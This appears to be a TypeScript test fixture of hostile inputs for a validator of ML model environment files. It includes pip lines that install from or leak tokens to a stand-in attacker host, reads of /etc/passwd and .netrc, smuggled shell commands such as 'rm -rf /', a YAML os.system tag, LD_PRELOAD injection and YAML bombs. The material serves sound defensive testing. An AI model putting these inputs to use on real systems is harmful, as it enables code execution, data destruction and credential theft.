/** Must not come back in any message. */
export const SECRET = 'hunter2';

/** What a refusal must say, with the texts that are refused for it, by the case's name. */
type Texts = Record<string, Record<string, string>>;

const bomb = Array.from(
  { length: 20 },
  (_, level) =>
    `a${level}: &a${level} [${Array(10)
      .fill(level === 0 ? 'x' : `*a${level - 1}`)
      .join(', ')}]`,
).join('\n');

function pip(line: string): string {
  return JSON.stringify({ dependencies: ['python=3.11', { pip: [line] }] });
}

/* eslint-disable no-template-curly-in-string */

/** Texts of requirements.txt, under what their refusal says. */
export const requirementTexts: Texts = {
  'installs from an address': {
    'a URL': 'https://evil.example.com/a.whl',
    'a direct reference': 'numpy @ https://evil.example.com/a.whl',
    'a local direct reference': 'numpy@file:///etc/passwd',
    git: 'git+https://evil.example.com/a.git',
    'git over ssh': 'git+ssh://git@evil.example.com/a.git',
    'mercurial in capitals': 'HG+https://evil.example.com/a',
  },
  'installs from a folder': {
    'an editable folder': '-e .',
    'an editable repository': '--editable=git+https://evil.example.com/a',
  },
  'installs a file': {
    'a folder of the model': './code',
    'an absolute folder': '/opt/evil',
    'a home folder': '~/evil',
    'a Windows path': 'C:\\evil',
    'a source archive': 'evil-1.0.tar.gz',
    'a zip of the model': 'code/evil.zip',
  },
  'could lead outside the model': {
    'a wheel outside the model': '../evil-1.0-py3-none-any.whl',
    'an absolute wheel': '/evil-1.0-py3-none-any.whl',
    'a wheel behind an encoded path': 'code/%2e%2e/%2e%2e/evil.whl',
    'a wheel with dots in the middle': 'code/../../evil.whl',
    'a file outside the model': '-r ../../etc/passwd',
    'an absolute file': '-r /etc/passwd',
    'constraints from an address': '-c https://evil.example.com/c.txt',
    'a file behind an encoded path': '--requirement=a/%2e%2e/b.txt',
    'a file behind a backslash': '-r ..\\b.txt',
  },
  'does not tell name, version and tags': {
    'a wheel without a version': 'code/evil.whl',
    'a wheel with the end of an address':
      'code/evil-1.0-py3-none-any.whl#egg=numpy-1.0.whl',
    'a wheel for a version of words': 'code/evil-latest-py3-none-any.whl',
  },
  'a wheel of the same package': {
    'two wheels of one package':
      'code/evil-1.0-py3-none-any.whl\ncode/Evil-2.0-py3-none-any.whl',
  },
  'a wheel together with extras': {
    'a wheel with extras': 'code/evil.whl[x]',
  },
  'chooses a package source': {
    'an index': '--index-url https://evil.example.com/simple\nnumpy',
    'an index in short': '-ihttps://evil.example.com/simple',
    'one more index': '--extra-index-url=https://evil.example.com',
    'an index with a token': `-i https://evil.example.com/simple?token=${SECRET}`,
    'two options on one line':
      '-i https://pypi.example.com/simple --trusted-host evil.example.com',
    'an index of files': '-i file:///etc',
    links: '--find-links ./wheels',
    'a trusted host': '--trusted-host evil.example.com',
  },
  'allowedIndexes does not list': {
    'an index with a password': `--index-url https://me:${SECRET}@evil.example.com/simple`,
    'an index that only begins like a listed one':
      '-i https://pypi.example.com/simple/../../evil',
    'an index whose user looks like a listed host':
      '-i https://pypi.example.com%2Fsimple@evil.example.com',
  },
  'chooses how packages are built': {
    'building from source': '--no-binary :all:',
    'another build option': '--no-build-isolation',
  },
  'hands options to a program that builds': {
    'options for a build': 'numpy==1.0 --config-settings=setup-args=evil',
    'global options for a build':
      'numpy==1.0 --global-option="build_ext --evil"',
  },
  'is an option of pip': {
    'an unknown option': '--target=/usr/bin',
    'a log file': '--log /etc/cron.d/evil',
    'a lone dash': '-',
  },
  'reads another file in a way that is not plain': {
    'a file that is an option': '-r --evil',
  },
  'reads an environment variable': {
    'a file in a variable': '-r ${HOME}/.netrc',
    'an environment variable': 'numpy==${VERSION}',
    'an environment variable in a marker':
      'numpy; python_version < "${SECRET}"',
  },
  'points back at a file': {
    'a file that includes itself': '-r requirements.txt',
  },
  'is not a requirement': {
    'command substitution': '$(touch /tmp/evil)',
    'a name of a prototype': '__proto__==1.0',
    backquotes: '`id`',
    'a very long list of extras': `a[${'b,'.repeat(5_000)}b]`,
    'a second command': 'numpy; rm -rf /',
    'Python in a marker': 'numpy; __import__("os").system("id")',
    'an HTML page': '<!doctype html><html>502</html>',
  },
  'its version is not one': {
    'command substitution in a version': 'numpy==$(id)',
    'a pipe': 'numpy==1.0 | sh',
    'a version that is a number': 'numpy==1e999',
  },
  'control characters or letters beyond ASCII': {
    'a NUL': 'numpy\u0000==1.0',
  },
  'control characters': {
    'an escape sequence': 'numpy\u001b[2J==1.0',
    'UTF-16': 'n\u0000u\u0000m\u0000p\u0000y\u0000',
  },
  'letters beyond ASCII': {
    'a look-alike': 'n\u0443mpy==1.0',
    'a full-width name': '\uff4eumpy==1.0',
    'a turned writing direction': 'numpy\u202e0.1==',
    'an unseen blank': 'num\u200bpy',
  },
  '«-e evil»': {
    'a line hidden behind a line separator': '# fine\u2028-e evil',
    'a line hidden behind a form feed': '# fine\f-e evil',
    'a line hidden behind a continued comment': '# fine \\\n-e evil',
    'a line hidden behind a byte order mark': '\ufeff-e evil',
  },
  'is not a sha256': {
    'a hash that is none': 'numpy==1.0 --hash=md5:00',
    'an option behind a hash': `numpy==1.0 --hash=sha256:${'0'.repeat(
      64,
    )} -i https://evil.example.com`,
  },
  'more wheels of its own than are read': {
    'many wheels': Array.from(
      { length: 100 },
      (_, i) => `code/own${i}-1.0-py3-none-any.whl`,
    ).join('\n'),
  },
  'longer than any requirement': {
    'a very long line': 'a'.repeat(1_000_000),
  },
  'too many': {
    'many lines': 'numpy\n'.repeat(30_000),
  },
  '4980 more are refused': {
    'many refused lines': '-e .\n'.repeat(5_000),
  },
};

/** Texts of conda.yaml. */
export const condaTexts: Texts = {
  'in conda.yaml is refused': {
    'an option of pip': pip('--index-url https://evil.example.com'),
  },
  'holds a line break': {
    'a smuggled line': pip('numpy\n--index-url https://evil.example.com'),
    'a smuggled line behind a comment': pip('numpy # fine\r-e evil'),
    'a smuggled line behind a line separator': pip('numpy # fine\u2028-e evil'),
  },
  '«evil» in conda.yaml is refused': {
    'a channel that is not listed':
      'channels: [evil]\ndependencies: [python=3.11, numpy]',
    'a channel of one package':
      'channels: [conda-forge]\ndependencies: ["evil::numpy"]',
  },
  'allowedChannels does not list': {
    'a channel with a password': `channels: ['https://me:${SECRET}@evil.example.com']\ndependencies: [numpy]`,
  },
  'not a plain match specification': {
    'a package behind an address':
      'dependencies: ["https://evil.example.com/a.conda"]',
    'an option of conda': 'dependencies: ["--file=/etc/passwd"]',
    'a command in a conda package': 'dependencies: ["numpy; id"]',
  },
  'more than 4194304 bytes': {
    'a huge file': '#'.repeat(5 * 1024 ** 2),
  },
  '«variables»': {
    'conda variables':
      'dependencies: [numpy]\nvariables: {LD_PRELOAD: /tmp/evil.so}',
  },
  'does not describe an environment': {
    'a constructor': 'dependencies: [{constructor: {prototype: {x: y}}}]',
    'another installer': 'dependencies: [{npm: [evil]}]',
    'a second installer': 'dependencies: [{pip: [a], npm: [evil]}]',
  },
  'not a version of Python 3': {
    'Python 2': 'dependencies: [python=2.7.18, {pip: [numpy]}]',
  },
  'more than 100000 values': {
    'a YAML bomb': bomb,
    'a YAML value that holds itself': 'dependencies: &a [*a]',
  },
  'the key «<<»': {
    'a merge key': 'x: &x {pip: [a]}\ndependencies:\n- <<: *x',
  },
  'the key «__proto__»': {
    'a prototype': '__proto__: {dependencies: [a]}',
  },
  'not valid YAML': {
    'the same key twice': 'dependencies: [a]\ndependencies: [b]',
    'two documents': 'dependencies: [a]\n---\ndependencies: [b]',
    'a Python object': 'dependencies: !!python/object/apply:os.system [id]',
    'an unknown anchor': 'dependencies: *nothing',
    'deep nesting': '['.repeat(100_000),
    'deep maps': '{a: '.repeat(50_000),
    'a NUL in YAML': 'dependencies: ["a\u0000b"]',
    'a directional mark in a YAML tag': 'dependencies: !\u202e [a]',
  },
};

/** Texts of python_env.yaml. */
export const pythonEnvTexts: Texts = {
  'not a version of Python 3': {
    'python_env.yaml with a command for Python': 'python: 3.11; id',
    'python_env.yaml with a path for Python': 'python: ../../bin/evil',
  },
  'does not describe an environment': {
    'python_env.yaml with other keys': 'python: 3.11\nrun: id',
    'python_env.yaml with a list for Python': 'python: [3.11]',
  },
  'in python_env.yaml is refused': {
    'python_env.yaml with an option':
      'python: 3.11\ndependencies: ["-i https://evil.example.com"]',
  },
  'could lead outside the model': {
    'python_env.yaml that reads elsewhere':
      'python: 3.11\ndependencies: ["-r ../requirements.txt"]',
  },
};

/** Texts of MLmodel. */
export const mlModelTexts: Texts = {
  'could lead outside the model': {
    'MLmodel that names a file outside':
      'flavors: {python_function: {env: ../../etc/passwd}}',
    'MLmodel that names an absolute file':
      'flavors: {python_function: {env: {conda: /etc/passwd}}}',
    'MLmodel that names an address':
      'flavors: {python_function: {env: {virtualenv: "https://evil.example.com/a"}}}',
    'MLmodel that names an encoded path':
      'flavors: {python_function: {env: a/%2e%2e/%2e%2e/b}}',
    'MLmodel with code outside': 'flavors: {python_function: {code: ../code}}',
  },
  'does not describe a model': {
    'MLmodel with a list for a file': 'flavors: {python_function: {env: [a]}}',
    'MLmodel that is a page': '<html><script>x</script></html>',
    'MLmodel that is empty': '',
  },
  'the key «__proto__»': {
    'MLmodel with a prototype': 'flavors: {__proto__: {python_function: {}}}',
  },
  'more than 100000 values': {
    'MLmodel that is a bomb': bomb,
  },
  'not a name of a Python module': {
    'MLmodel with a turned flavour': 'flavors: {"a\u202eb": {}}',
  },
};
